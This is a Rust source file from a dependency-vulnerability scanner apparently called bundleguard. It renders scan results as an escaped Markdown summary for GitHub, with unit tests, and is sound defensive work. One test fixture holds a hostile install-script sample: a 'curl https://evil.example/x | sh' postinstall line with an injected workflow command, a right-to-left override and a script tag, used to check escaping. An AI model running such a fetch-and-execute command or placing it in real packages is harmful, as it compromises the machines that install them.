//! The Markdown report (GitHub Flavored Markdown, <https://github.github.com/gfm/>): a compact
//! summary for `$GITHUB_STEP_SUMMARY` and pull-request comments. Every piece of package and
//! advisory text is untrusted: it goes through [`super::escape`] so it cannot inject HTML, links,
//! autolinks, mentions or table cells, and it never starts a line (so no `::` workflow command).
//! The output stays under GitHub's 1 MiB job-summary limit, truncated with a note.

use std::fmt::Write as _;
use std::io::{self, Write};

use super::escape;
use crate::finding::{BundleReport, Finding, FindingKind, Level, RiskFinding, ScanResult, Status, Verdict};

/// GitHub's limit for one step summary.
const MAX_BYTES: usize = 1024 * 1024;
/// Room kept for closing tags and the truncation note.
const RESERVE: usize = 4 * 1024;
/// Gating findings shown before the rest folds into `<details>`.
const VISIBLE_ROWS: usize = 10;
/// Longest summary and path shown in a cell, in characters.
const MAX_CELL_CHARS: usize = 120;

const TABLE_HEAD: &str =
    "| Severity | ID | Package | Summary | Fix | Path | Status |\n| --- | --- | --- | --- | --- | --- | --- |\n";

/// `https://osv.dev/vulnerability/<ID>` when the id is made of characters that need no escaping
/// anywhere (`^[A-Za-z0-9._:-]+$`); `None` for anything else.
pub(super) fn osv_url(id: &str) -> Option<String> {
    let safe = !id.is_empty() && id.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | ':' | '-'));
    safe.then(|| format!("https://osv.dev/vulnerability/{id}"))
}

/// `text` cut to `max` characters (with an ellipsis), as a code span.
fn code_short(text: &str, max: usize) -> String {
    escape::markdown_code(&escape::cap(text, max))
}

/// `text` cut to `max` characters (with an ellipsis), then escaped.
fn escape_short(text: &str, max: usize) -> String {
    escape::markdown(&escape::cap(text, max))
}

pub fn render(result: &ScanResult, out: &mut dyn Write) -> io::Result<()> {
    let mut doc = Doc::new(MAX_BYTES);
    header(result, &mut doc);
    let mut clean = Vec::new();
    for bundle in &result.bundles {
        if bundle.findings.is_empty() {
            clean.push(bundle);
        } else {
            bundle_section(bundle, &mut doc);
        }
    }
    if !clean.is_empty() {
        let names: Vec<String> = clean.iter().map(|b| escape::markdown_code(&b.path)).collect();
        doc.push(&format!("✅ No known vulnerabilities in {} bundles: {}\n\n", clean.len(), list(&names, 50)));
    }
    fix_plan(result, &mut doc);
    risk_sections(result, &mut doc);
    problems(result, &mut doc);
    out.write_all(doc.finish().as_bytes())
}

/// The output with its byte budget: once a piece would pass it, the rest is counted, not shown.
struct Doc {
    text: String,
    budget: usize,
    skipped: usize,
}

impl Doc {
    fn new(max: usize) -> Doc {
        Doc { text: String::new(), budget: max.saturating_sub(RESERVE), skipped: 0 }
    }

    /// Appends `piece` if it fits; returns whether it did.
    fn push(&mut self, piece: &str) -> bool {
        if self.skipped == 0 && self.text.len() + piece.len() <= self.budget {
            self.text.push_str(piece);
            true
        } else {
            false
        }
    }

    /// Appends a finding's row, or counts it as not shown.
    fn row(&mut self, row: &str) {
        if !self.push(row) {
            self.skipped += 1;
        }
    }

    /// Closing markup is always written (the reserve is for it).
    fn close(&mut self, piece: &str) {
        self.text.push_str(piece);
    }

    fn finish(mut self) -> String {
        if self.skipped > 0 {
            let _ = write!(
                self.text,
                "\n> [!WARNING]\n> Truncated to stay under GitHub's 1 MiB summary limit: {} findings are not shown. \
                 The JSON and SARIF reports have all of them.\n",
                self.skipped
            );
        }
        self.text
    }
}

fn header(result: &ScanResult, doc: &mut Doc) {
    let (icon, word) = match result.verdict {
        Verdict::Pass => ("✅", "passed"),
        Verdict::Fail => ("❌", "failed"),
        Verdict::Incomplete => ("⚠️", "incomplete"),
    };
    let statuses = || result.findings().map(|(_, f)| &f.status).chain(shown_risks(result).map(|(_, r)| &r.status));
    let count = |s: &str| statuses().filter(|status| status.as_str() == s).count();
    let total = result.findings().count();
    let mut line = format!(
        "**{} gating** at or above {} · {total} findings in {} bundles",
        count("gating"),
        result.fail_on.as_str(),
        result.bundles.len()
    );
    for status in ["below-threshold", "dev-only", "ignored", "baseline", "unreachable"] {
        let n = count(status);
        if n > 0 {
            let _ = write!(line, " · {n} {status}");
        }
    }
    let risks = shown_risks(result).count();
    if risks > 0 {
        let _ = write!(line, " · {risks} risk findings");
    }
    if !result.include_dev {
        line.push_str(" · dev dependencies do not gate");
    }
    if !result.not_evaluated.is_empty() {
        let _ = write!(line, " · {} packages not evaluated", result.not_evaluated.len());
    }
    let not_read = result.bundles.iter().filter(|b| b.coverage.is_some()).count();
    if not_read > 0 {
        let _ = write!(line, " · {not_read} functions not read");
    }
    doc.push(&format!("## {icon} bundleguard: {word}\n\n{line}\n\n"));
    evaluation(result, doc);
}

/// One line for the packages the advisory match could not evaluate, one for the risk signals'
/// coverage; nothing when there is nothing to say.
fn evaluation(result: &ScanResult, doc: &mut Doc) {
    if !result.not_evaluated.is_empty() {
        doc.push(&format!(
            "⚠️ **Not evaluated**: {} packages could not be checked against the advisories, so the scan is \
             incomplete (the JSON report names them and says why).\n\n",
            result.not_evaluated.len()
        ));
    }
    if !result.coverage.is_empty() {
        let parts: Vec<String> = result
            .coverage
            .iter()
            .map(|c| format!("{} {} of {} packages", escape::markdown_code(c.code.as_str()), c.evaluated, c.total))
            .collect();
        doc.push(&format!("**Coverage** (packages each signal could be evaluated for): {}\n\n", parts.join(", ")));
    }
}

/// The risk findings the Markdown report shows: stale, takeover and unused (hygiene notes are
/// in the JSON and SARIF reports).
fn shown_risks(result: &ScanResult) -> impl Iterator<Item = (&BundleReport, &RiskFinding)> {
    result.risks().filter(|(_, r)| r.code.kind() != FindingKind::Hygiene)
}

const RISK_HEAD: &str = "| Bundle | Package | Code | Message | Status |\n| --- | --- | --- | --- | --- |\n";

/// One table per kind of risk finding, worst kinds first.
fn risk_sections(result: &ScanResult, doc: &mut Doc) {
    for (kind, title) in [
        (FindingKind::Takeover, "Takeover signals"),
        (FindingKind::Stale, "Stale packages"),
        (FindingKind::Unused, "Unused packages"),
    ] {
        let risks: Vec<(&BundleReport, &RiskFinding)> =
            shown_risks(result).filter(|(_, r)| r.code.kind() == kind).collect();
        if risks.is_empty() {
            continue;
        }
        if !doc.push(&format!("### {title} ({})\n\n{RISK_HEAD}", risks.len())) {
            doc.skipped += risks.len();
            continue;
        }
        for (b, r) in risks {
            doc.row(&risk_row(b, r));
        }
        doc.close("\n");
    }
}

fn risk_row(b: &BundleReport, r: &RiskFinding) -> String {
    let package =
        r.package.as_ref().map(|p| escape::markdown_code(&format!("{}@{}", p.name, p.version))).unwrap_or_default();
    let status = match r.status {
        Status::Info => status(&r.status),
        _ => format!("{}, {}", severity(r.level), status(&r.status)),
    };
    format!(
        "| {} | {package} | {} | {} | {status} |\n",
        escape::markdown(&b.name),
        escape::markdown_code(r.code.as_str()),
        escape_short(r.message.trim(), MAX_CELL_CHARS),
    )
}

fn bundle_section(bundle: &BundleReport, doc: &mut Doc) {
    let mut findings: Vec<&Finding> = bundle.findings.iter().collect();
    findings.sort_by(|a, b| {
        (a.status != Status::Gating, std::cmp::Reverse(a.severity), &a.advisory.id, a.package.name.as_str()).cmp(&(
            b.status != Status::Gating,
            std::cmp::Reverse(b.severity),
            &b.advisory.id,
            b.package.name.as_str(),
        ))
    });
    let gating = findings.iter().filter(|f| f.status == Status::Gating).count();
    let shown = gating.min(VISIBLE_ROWS);
    let heading = format!(
        "### {} — {} ({}, {} packages)\n\n",
        escape::markdown(&bundle.name),
        escape::markdown_code(&bundle.path),
        escape::markdown(bundle.format.as_str()),
        bundle.graph.len()
    );
    if !doc.push(&heading) {
        doc.skipped += findings.len();
        return;
    }
    let (open, folded) = findings.split_at(shown);
    if !open.is_empty() && doc.push(TABLE_HEAD) {
        for f in open {
            doc.row(&row(f));
        }
        doc.close("\n");
    } else {
        doc.skipped += open.len();
    }
    if folded.is_empty() {
        return;
    }
    let summary = format!("<details><summary>{}</summary>\n\n{TABLE_HEAD}", folded_summary(folded, !open.is_empty()));
    if doc.push(&summary) {
        for f in folded {
            doc.row(&row(f));
        }
        doc.close("\n</details>\n\n");
    } else {
        doc.skipped += folded.len();
    }
}

/// The fix plan: per function with gating findings, the changes that clear them (each target
/// checked against every advisory of its package) and the packages no named version clears.
fn fix_plan(result: &ScanResult, doc: &mut Doc) {
    let plans: Vec<&BundleReport> = result.bundles.iter().filter(|b| !b.fix_plan.is_empty()).collect();
    if plans.is_empty() || !doc.push("### 🔧 Fix plan\n\n") {
        return;
    }
    for b in plans {
        let mut piece = format!("**{}** ({})\n\n", escape::markdown(&b.name), escape::markdown_code(&b.path));
        for c in &b.fix_plan.changes {
            let n = c.clears.len();
            let _ = writeln!(
                piece,
                "- {} clears {n} finding{} ({}): {}",
                escape::markdown_code(&format!("{} {} -> {}", c.package, c.from, c.to)),
                if n == 1 { "" } else { "s" },
                escape::markdown(&c.clears.join(", ")),
                escape::markdown_code(&c.instruction)
            );
        }
        for u in &b.fix_plan.unfixable {
            let _ = writeln!(
                piece,
                "- {}: {}",
                escape::markdown_code(&format!("{} {}", u.package, u.version)),
                escape::markdown(&u.reason)
            );
        }
        piece.push('\n');
        if !doc.push(&piece) {
            return;
        }
    }
}

/// `12 more findings: 2 gating, 8 below-threshold, 2 dev-only`.
fn folded_summary(folded: &[&Finding], more: bool) -> String {
    let mut counts: Vec<(&str, usize)> = Vec::new();
    for f in folded {
        match counts.iter_mut().find(|(s, _)| *s == f.status.as_str()) {
            Some((_, n)) => *n += 1,
            None => counts.push((f.status.as_str(), 1)),
        }
    }
    let parts: Vec<String> = counts.iter().map(|(s, n)| format!("{n} {s}")).collect();
    let more = if more { "more " } else { "" };
    let plural = if folded.len() == 1 { "" } else { "s" };
    format!("{} {more}finding{plural}: {}", folded.len(), parts.join(", "))
}

fn row(f: &Finding) -> String {
    let id = match osv_url(&f.advisory.id) {
        Some(url) => format!("[{}]({url})", escape::markdown(&f.advisory.id)),
        None => escape::markdown(&f.advisory.id),
    };
    let mut package = escape::markdown_code(&format!("{}@{}", f.package.name, f.package.version));
    if f.reachable == Some(false) {
        package.push_str(" (unreachable)");
    }
    let fix = if f.advisory.fixed.is_empty() {
        "none known".to_owned()
    } else {
        escape::markdown_code(&f.advisory.fixed.join(", "))
    };
    let path = match f.paths.first() {
        Some(path) => {
            let more = if f.paths.len() > 1 { format!(" (+{})", f.paths.len() - 1) } else { String::new() };
            format!("{}{more}", code_short(&path.join(" > "), MAX_CELL_CHARS))
        }
        None => String::new(),
    };
    format!(
        "| {} | {id} | {package} | {} | {fix} | {path} | {} |\n",
        severity(f.severity),
        escape_short(f.advisory.summary.trim(), MAX_CELL_CHARS),
        status(&f.status)
    )
}

fn severity(level: Level) -> &'static str {
    match level {
        Level::Critical => "🟥 critical",
        Level::High => "🟧 high",
        Level::Medium => "🟨 medium",
        Level::Low => "⬜ low",
    }
}

fn status(status: &Status) -> String {
    match status {
        Status::Gating => "**gating**".to_owned(),
        Status::Ignored { reason, until, .. } => {
            let until = until.as_ref().map(|u| format!(" until {}", escape::markdown(u))).unwrap_or_default();
            format!("ignored{until}: {}", escape_short(reason, MAX_CELL_CHARS))
        }
        other => other.as_str().to_owned(),
    }
}

fn list(items: &[String], max: usize) -> String {
    let mut text = items.iter().take(max).cloned().collect::<Vec<_>>().join(", ");
    if items.len() > max {
        let _ = write!(text, " and {} more", items.len() - max);
    }
    text
}

fn problems(result: &ScanResult, doc: &mut Doc) {
    if !result.errors.is_empty() && doc.push("#### Files that could not be read\n\n") {
        for e in &result.errors {
            doc.push(&format!(
                "- {}: {}\n",
                escape::markdown_code(e.path.as_deref().unwrap_or_default()),
                escape::markdown(&e.message)
            ));
        }
        doc.push("\n");
    }
    if !result.warnings.is_empty() && doc.push("#### Warnings\n\n") {
        for w in &result.warnings {
            doc.push(&format!("- {}\n", escape::markdown(&w.to_string())));
        }
        doc.push("\n");
    }
}

#[cfg(test)]
mod tests {
    use super::super::sarif::sample;
    use super::*;

    fn render_string(result: &ScanResult) -> String {
        sample::rendered(render, result)
    }

    #[test]
    fn snapshot() {
        insta::assert_snapshot!(render_string(&sample::result()));
    }

    #[test]
    fn deterministic() {
        assert_eq!(render_string(&sample::result()), render_string(&sample::result()));
    }

    #[test]
    fn osv_links_only_for_plain_ids() {
        assert_eq!(
            osv_url("GHSA-hrpp-h998-j3pp").as_deref(),
            Some("https://osv.dev/vulnerability/GHSA-hrpp-h998-j3pp")
        );
        assert_eq!(osv_url("PYSEC-2021_98.x:y").as_deref(), Some("https://osv.dev/vulnerability/PYSEC-2021_98.x:y"));
        assert_eq!(osv_url("GHSA-<script>|x"), None);
        assert_eq!(osv_url("a)b"), None);
        assert_eq!(osv_url(""), None);
    }

    #[test]
    fn hostile_text_cannot_break_out() {
        let text = render_string(&sample::result());
        assert!(!text.contains("<script"), "{text}");
        assert!(!text.contains("<b>safe"), "the ignore reason is escaped");
        assert!(text.contains("`3.1.0 \\| <b>`"), "versions are code spans, shown literally");
        assert!(!text.contains('\u{1b}'));
        assert!(!text.contains("[link]"));
        for line in text.lines() {
            assert!(!line.trim_start().starts_with("::"), "workflow command at line start: {line}");
            if line.starts_with("| ") && !line.starts_with("| ---") {
                let unescaped_pipes = line.match_indices('|').filter(|(i, _)| !line[..*i].ends_with('\\')).count();
                assert_eq!(unescaped_pipes, 8, "7 cells: {line}");
            }
        }
    }

    #[test]
    fn risk_findings_grouped_by_kind() {
        let text = render_string(&sample::with_risks());
        assert!(text.starts_with("## ⚠️ bundleguard: incomplete"), "{text}");
        assert!(text.contains("· 5 risk findings ·"), "hygiene notes are not counted here: {text}");
        assert!(text.contains("**3 gating**"), "the gating takeover signal counts: {text}");
        assert!(text.contains("⚠️ **Not evaluated**: 1 packages could not be checked"), "{text}");
        assert!(text.contains("**Coverage** (packages each signal could be evaluated for): `takeover/new-publisher` 812 of 3181 packages\n"), "{text}");
        let takeover = text.find("### Takeover signals (2)").expect("takeover section");
        let stale = text.find("### Stale packages (2)").expect("stale section");
        let unused = text.find("### Unused packages (1)").expect("unused section");
        assert!(takeover < stale && stale < unused);
        assert!(!text.contains("dev-shipped"), "hygiene stays out of the summary");
        assert!(text.contains(
            "| api | `express@4.17.1` | `takeover/install-script-added` | postinstall \\`curl https`:`//evil.example/x \\| sh\\` \\:\\:error\\:\\:pwned \\u{202e}&lt;script&gt; | 🟧 high, **gating** |\n"
        ), "{text}");
        assert!(
            text.contains(
                "| worker | `pyyaml@5.3` | `stale/yanked` | stale/yanked on pyyaml | 🟨 medium, below-threshold |"
            ),
            "{text}"
        );
        assert!(text.contains("| `unused/declared` | unused/declared on jest | info |"), "{text}");
        for line in text.lines().filter(|l| l.starts_with("| ") && !l.starts_with("| ---") && l.contains('/')) {
            let cells = line.match_indices('|').filter(|(i, _)| !line[..*i].ends_with('\\')).count();
            assert!(cells == 6 || cells == 8, "{line}");
        }
        assert!(!text.contains('\u{202e}') && !text.contains("<script"));
    }

    #[test]
    fn verdict_heading() {
        let mut result = sample::result();
        assert!(render_string(&result).starts_with("## ❌ bundleguard: failed"));
        result.verdict = Verdict::Pass;
        assert!(render_string(&result).starts_with("## ✅ bundleguard: passed"));
    }

    #[test]
    fn stays_under_the_summary_limit() {
        let result = sample::large(20, 200, 5);
        let text = render_string(&result);
        assert!(text.len() <= MAX_BYTES, "{} bytes", text.len());
        assert!(text.contains("Truncated to stay under GitHub's 1 MiB summary limit"));
        assert_eq!(text.matches("<details>").count(), text.matches("</details>").count());
    }
}
